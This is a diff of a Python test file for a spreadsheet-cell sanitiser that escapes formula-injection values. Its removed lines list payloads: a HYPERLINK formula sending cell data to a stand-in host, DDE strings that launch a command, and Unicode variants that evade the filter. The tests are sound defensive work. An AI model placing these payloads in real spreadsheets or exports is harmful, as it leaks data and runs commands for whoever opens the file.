@@ -11,31 +11,9 @@ from hypothesis import strategies as st
 from agentlearn.measure.observation import Observation
 from agentlearn_evals.formats import read_logs, write_observations
 from agentlearn_evals.formats.spreadsheet_cells import original_cell, spreadsheet_cell
+from tests.support.cases import cases
 
-PAYLOADS = (
-    '=HYPERLINK("https://evil.test?x="&A1,"open")',
-    "=cmd|'/C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "\u00a0=1+1",
-    "\u3000=1+1",
-    "\ufeff=1+1",
-    "\u200b=1+1",
-    "\uff1d1+1",  # full-width =
-    "\uff0b1",
-    "\uff0d1",
-    "\uff20SUM(1)",
-    "\u22121+1",  # the minus sign
-    "\u2a751",  # two = in one letter
-    "\u0600\ufe66SUM",  # a small = after an invisible letter
-    "-1.5",
-    "'=1+1",
-)
+PAYLOADS = cases(__file__, "payloads")
 
 
 def starts_a_formula(text: str) -> bool:
@@ -43,11 +21,12 @@ def starts_a_formula(text: str) -> bool:
     return bool(re.match("[\t\r\n]|[\\s\u00ad\u200b-\u200f\u2060\ufeff]*[=+@\u2212\uff1d\uff0b\uff0d\uff20-]", text))
 
 
-@pytest.mark.parametrize("text", PAYLOADS)
-def test_a_formula_becomes_text(text: str) -> None:
-    cell = str(spreadsheet_cell(text))
-    assert cell == f"'{text}"
-    assert not starts_a_formula(cell)
+def test_a_formula_becomes_text(subtests: pytest.Subtests) -> None:
+    for text in PAYLOADS:
+        with subtests.test(repr(text)):
+            cell = str(spreadsheet_cell(text))
+            assert cell == f"'{text}"
+            assert not starts_a_formula(cell)
 
 
 @given(st.text() | st.sampled_from(PAYLOADS))
@@ -64,9 +43,10 @@ def test_signs_and_white_space_in_any_order_come_back(text: str) -> None:
     assert not starts_a_formula(cell)
 
 
-@pytest.mark.parametrize("value", [-1.5, -3, 0, 2.5e-7, None, "plain", "'quoted'", "a=b", "1-2", "[1]", ""])
-def test_numbers_and_ordinary_text_stay_as_they_are(value: object) -> None:
-    assert spreadsheet_cell(value) == value
+def test_numbers_and_ordinary_text_stay_as_they_are(subtests: pytest.Subtests) -> None:
+    for value in [-1.5, -3, 0, 2.5e-7, None, "plain", "'quoted'", "a=b", "1-2", "[1]", ""]:
+        with subtests.test(repr(value)):
+            assert spreadsheet_cell(value) == value
 
 
 def test_a_written_file_holds_no_formula_and_reads_back(tmp_path: Path) -> None:
